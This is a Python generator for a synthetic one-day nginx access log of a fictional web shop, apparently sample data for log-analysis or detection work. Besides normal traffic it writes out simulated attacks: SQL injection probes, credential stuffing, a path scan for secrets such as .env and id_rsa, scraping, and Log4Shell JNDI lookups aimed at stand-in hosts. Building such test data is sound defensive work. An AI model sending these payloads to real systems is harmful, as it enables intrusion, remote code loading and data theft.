"""Writes examples/access.log: one day of a small shop with an API, and six attackers in it.

Run ``python -m examples.make_sample`` after a change here. All addresses are from the ranges for
documentation (RFC 5737, RFC 3849), all names are reserved ones. The same bytes come out every time,
with every version of Python: only ``Random.random`` is used, which is promised to stay the same.
"""

from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from pathlib import Path
from random import Random
from typing import NamedTuple, TypeVar
from urllib.parse import quote
from zlib import crc32

PATH = Path(__file__).with_name("access.log")
MIDNIGHT = int(datetime(2026, 11, 2, tzinfo=UTC).timestamp())
HOUR = 3_600.0
SITE = "https://shop.example.com"

T = TypeVar("T")


class Hit(NamedTuple):
    """One line of the log; `at` is seconds after midnight."""

    at: float
    client: str
    request: str
    status: int
    size: int
    referer: str
    agent: str
    user: str = "-"


WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15"
WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64"
BROWSERS = (
    f"{WINDOWS}) {WEBKIT} Chrome/148.0.0.0 Safari/537.36",
    f"{WINDOWS}) {WEBKIT} Chrome/147.0.0.0 Safari/537.36",
    f"{WINDOWS}) {WEBKIT} Chrome/148.0.0.0 Safari/537.36 Edg/148.0.0.0",
    f"{WINDOWS}; rv:151.0) Gecko/20100101 Firefox/151.0",
    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {WEBKIT} Chrome/148.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:151.0) Gecko/20100101 Firefox/151.0",
    f"Mozilla/5.0 (Linux; Android 10; K) {WEBKIT} Chrome/148.0.0.0 Mobile Safari/537.36",
    f"{IPHONE} (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
)
APPS = (
    "ShopApp/6.2.1 (Android 15; Pixel 9)",
    "ShopApp/6.2.1 (iPhone16,2; iOS 26.1)",
    "ShopApp/6.1.0 (Android 14; SM-A556B)",
)
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
BINGBOT = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
CATEGORIES = ("lamps", "chairs", "kitchen", "garden", "textiles")
PRODUCTS = tuple(number for number in range(1_000, 1_470) if number % 11)
ASSETS = ("/static/app.3f9a1c.js", "/static/main.81b20d.css", "/static/logo.svg")
SEARCHES = ("lamp", "oak table", "men's gift", "wool & linen", "mug 0,3 l", "chair black")


def pick(rng: Random, choices: Sequence[T]) -> T:
    """One of the choices."""
    return choices[int(rng.random() * len(choices))]


def between(rng: Random, low: float, high: float) -> float:
    """A number between two others."""
    return low + (high - low) * rng.random()


def size_of(path: str, low: int = 900, high: int = 24_000) -> int:
    """A path is answered with about the same number of bytes every time."""
    return low + crc32(path.encode()) % (high - low)


def get(
    at: float, client: str, path: str, agent: str, referer: str = "-", status: int = 200
) -> Hit:
    """A GET request and its usual answer."""
    sizes = {304: 0, 404: 153, 403: 153, 400: 157, 500: 177}
    return Hit(
        at, client, f"GET {path} HTTP/1.1", status, sizes.get(status, size_of(path)), referer, agent
    )


def login(at: float, client: str, agent: str, status: int, referer: str = "-") -> Hit:
    """An attempt to log in. The answer to a wrong password always has the same length."""
    size = 62 if status == 401 else 398 + crc32(f"{client}{at}".encode()) % 35
    return Hit(at, client, "POST /api/login HTTP/1.1", status, size, referer, agent)


def day_time(rng: Random) -> float:
    """A time between 10:30 and 24:00, most likely in the early evening."""
    return (6 + 17.9 * (0.25 + 0.375 * (rng.random() + rng.random()))) * HOUR


def browser_visits(rng: Random) -> Iterator[Hit]:
    """People in a browser: pages, with what belongs to them, a search, now and then a login."""
    for number in range(110):
        client = (
            f"192.0.2.{20 + number}"
            if number % 5
            else f"2001:db8:{0x40 + number:x}:1::{0x100 + int(rng.random() * 4_000):x}"
        )
        agent, at = pick(rng, BROWSERS), day_time(rng)
        referer = pick(rng, ("-", "https://search.example/", "https://news.example/gifts"))
        cached = False
        for _ in range(1 + int(rng.random() ** 2 * 8)):
            page = pick(
                rng,
                (
                    "/",
                    f"/c/{pick(rng, CATEGORIES)}",
                    f"/p/{pick(rng, PRODUCTS)}",
                    f"/p/{pick(rng, PRODUCTS)}",
                    f"/search?q={quote(pick(rng, SEARCHES))}",
                    "/account",
                ),
            )
            yield from page_view(rng, get(at, client, page, agent, referer), page, cached=cached)
            at += between(rng, 8, 90)
            referer, cached = SITE + page, True


def page_view(rng: Random, view: Hit, page: str, *, cached: bool) -> Iterator[Hit]:
    """A page with its files and API calls."""
    at, client, agent, here = view.at, view.client, view.agent, SITE + page
    yield view
    for asset in ASSETS:
        if not cached or rng.random() < 0.15:
            yield get(
                at + between(rng, 0.1, 0.9), client, asset, agent, here, 304 if cached else 200
            )
    if not cached and rng.random() < 0.12:
        yield get(at + 1.2, client, "/apple-touch-icon.png", agent, status=404)
    if page.startswith("/p/"):
        product = page[3:]
        yield get(at + 0.4, client, f"/media/{product}.webp", agent, here)
        yield get(at + 0.5, client, f"/api/products/{product}", agent, here)
    elif page == "/account":
        if rng.random() < 0.25:
            yield login(at + 9, client, agent, 401, here)
        yield login(at + 17, client, agent, 200, here)
        yield get(at + 18, client, "/api/me/orders", agent, here)
    else:
        yield get(at + 0.5, client, "/api/recommendations", agent, here)
    if rng.random() < 0.3:
        yield get(at + 0.7, client, "/api/cart", agent, here)


def app_visits(rng: Random) -> Iterator[Hit]:
    """The shop's mobile app: the API alone."""
    for number in range(34):
        client, agent = f"198.51.100.{10 + number}", pick(rng, APPS)
        for _ in range(1 + int(rng.random() * 2)):
            at = day_time(rng)
            yield get(at, client, "/api/me", agent)
            for _ in range(4 + int(rng.random() * 12)):
                at += between(rng, 2, 25)
                call = pick(
                    rng,
                    (
                        f"/api/products/{pick(rng, PRODUCTS)}",
                        f"/api/products/{pick(rng, PRODUCTS)}/stock",
                        f"/api/search?q={quote(pick(rng, SEARCHES))}&page=1",
                        "/api/cart",
                        "/api/recommendations",
                    ),
                )
                yield get(at, client, call, agent, status=500 if rng.random() < 0.003 else 200)


def machines(rng: Random) -> Iterator[Hit]:
    """A partner's job, the monitoring, a feed reader, two crawlers that say who they are."""
    for quarter in range(96):
        at = quarter * 900 + 31 + between(rng, 0, 2)
        for page in (1, 2, 3):
            path = f"/api/export/stock?page={page}&limit=200"
            hit = get(
                at + page, "198.51.100.200", path, "stock-sync/2.4 (+https://partner.example)"
            )
            yield hit._replace(user="partner")
    for minute in range(0, 1_440, 5):
        yield Hit(
            minute * 60 + 3.0,
            "203.0.113.5",
            "GET /health HTTP/1.1",
            200,
            15,
            "-",
            "Uptime-Kuma/2.0.2",
        )
    reader = "FreshRSS/1.27.1 (Linux; https://reader.example)"
    for hour in range(24):
        status = 200 if hour in {7, 15} else 304
        yield get(hour * HOUR + 1_111, "203.0.113.77", "/feed.xml", reader, status=status)
    for client, agent, start, pages in (
        ("203.0.113.130", GOOGLEBOT, 2.1, 60),
        ("203.0.113.161", BINGBOT, 9.4, 45),
    ):
        at = start * HOUR
        yield get(at, client, "/robots.txt", agent)
        for _ in range(pages):
            at += between(rng, 25, 190)
            path = pick(rng, (f"/p/{pick(rng, PRODUCTS)}", f"/c/{pick(rng, CATEGORIES)}"))
            yield get(at, client, path, agent)


def sql_injection(rng: Random) -> Iterator[Hit]:
    """Half an hour of probes at the search and the product API, a few of which make errors."""
    client, agent, at = "203.0.113.66", BROWSERS[1], 10.35 * HOUR
    probes = (
        "1'",
        "1' AND '1'='1",
        "1' AND '1'='2",
        "1 AND 7=7",
        "1' ORDER BY 4-- ",
        "1' ORDER BY 9-- ",
        "-1' UNION SELECT NULL,NULL,NULL-- ",
        "-1' UNION SELECT 1,version(),3-- ",
        "1' AND SLEEP(5)-- ",
        "1'||(SELECT 1 FROM pg_sleep(5))||'",
        "-1' UNION ALL SELECT table_name,2,3 FROM information_schema.tables-- ",
        "1' AND (SELECT SUBSTRING(email,1,1) FROM users LIMIT 1)='a",
        "1%27/**/OR/**/3=3#",
    )
    for turn in range(3):
        for probe in probes:
            at += between(rng, 4, 26)
            place = ("/search?q=", "/api/products?category=", "/api/search?page=1&q=")[turn]
            status = 500 if probe == "1'" or "pg_sleep" in probe else 400 if turn == 1 else 200
            yield get(at, client, place + quote(probe, safe="'()="), agent, status=status)


def credential_stuffing(rng: Random) -> Iterator[Hit]:
    """A list of stolen passwords is tried from one address; in the end one fits and is used."""
    client, agent, at = "198.51.100.249", BROWSERS[0], 14.2 * HOUR
    for _ in range(170):
        at += between(rng, 2.2, 5.5)
        yield login(at, client, agent, 401)
    yield login(at + 4, client, agent, 200)
    for path in ("/api/me", "/api/me/addresses", "/api/me/orders", "/api/me/payment-methods"):
        at += between(rng, 5, 9)
        yield get(at, client, path, agent)


def path_scanner(rng: Random) -> Iterator[Hit]:
    """A tool asks for files that people forget on servers."""
    client, agent, at = "203.0.113.222", "gobuster/3.6", 3.4 * HOUR
    stems = (
        ".env .git/config .git/HEAD wp-login.php wp-admin/ phpmyadmin/ admin/ backup.zip "
        "backup.sql db.sql config.php.bak server-status actuator/env api/swagger.json api/v1/debug "
        "console/ id_rsa docker-compose.yml adminer.php old/ test/ dev/ staging/ private/ "
        "upload.php shell.php info.php"
    )
    for prefix in ("", "shop/", "site/", "www/", "api/"):
        for stem in stems.split():
            at += between(rng, 0.1, 0.5)
            status = 403 if prefix + stem == "server-status" else 404
            yield get(at, client, f"/{prefix}{stem}", agent, status=status)


def scraper(rng: Random) -> Iterator[Hit]:
    """All products are fetched in the order of their ids, at an even pace."""
    client, agent, at = "2001:db8:bad:7::1f", BROWSERS[2], 17.05 * HOUR
    for product in range(1_000, 1_430):
        at += 1.5 + between(rng, 0, 0.2)
        status = 200 if product in PRODUCTS else 404
        yield get(at, client, f"/api/products/{product}", agent, status=status)


def log4shell(rng: Random) -> Iterator[Hit]:
    """A lookup in the user agent and one in a parameter."""
    client, at = "192.0.2.244", 20.6 * HOUR
    for lookup in ("${jndi:ldap://203.0.113.99:1389/a}", "${${lower:j}ndi:rmi://evil.example/x}"):
        at += between(rng, 1, 4)
        yield get(at, client, "/", lookup)
        yield get(at + 1, client, f"/api/search?q={quote(lookup)}", BROWSERS[0], status=400)


def fake_googlebot(rng: Random) -> Iterator[Hit]:
    """Says that it is Googlebot, never reads robots.txt, looks for logins and copies prices."""
    client, at = "203.0.113.201", 21.7 * HOUR
    for number in range(90):
        at += between(rng, 0.3, 1.1)
        path = pick(rng, (f"/p/{pick(rng, PRODUCTS)}", f"/api/products/{pick(rng, PRODUCTS)}"))
        if number % 15 == 7:
            wanted = pick(rng, ("/wp-login.php", "/admin/login", "/user/login"))
            yield get(at, client, wanted, GOOGLEBOT, status=404)
        else:
            yield get(at, client, path, GOOGLEBOT)


def noise() -> Iterator[Hit]:
    """What every open port receives: a TLS handshake on the plain port, an empty request."""
    yield Hit(4.9 * HOUR, "203.0.113.14", "\\x16\\x03\\x01\\x00\\xEE\\x01\\x00", 400, 157, "-", "-")
    yield Hit(15.3 * HOUR, "203.0.113.15", "", 400, 0, "-", "-")


def sample() -> str:
    """The log."""
    rng = Random(20_261_102)
    hits = [
        *browser_visits(rng), *app_visits(rng), *machines(rng), *sql_injection(rng),
        *credential_stuffing(rng), *path_scanner(rng), *scraper(rng), *log4shell(rng),
        *fake_googlebot(rng), *noise(),
    ]  # fmt: skip
    hits.sort(key=lambda hit: hit.at)
    return "".join(map(line_of, hits))


def line_of(hit: Hit) -> str:
    """A hit in the combined format of nginx."""
    time = datetime.fromtimestamp(MIDNIGHT + int(hit.at), UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return (
        f'{hit.client} - {hit.user} [{time}] "{hit.request}" {hit.status} {hit.size} '
        f'"{hit.referer}" "{hit.agent}"\n'
    )


if __name__ == "__main__":
    PATH.write_text(sample(), "ascii")
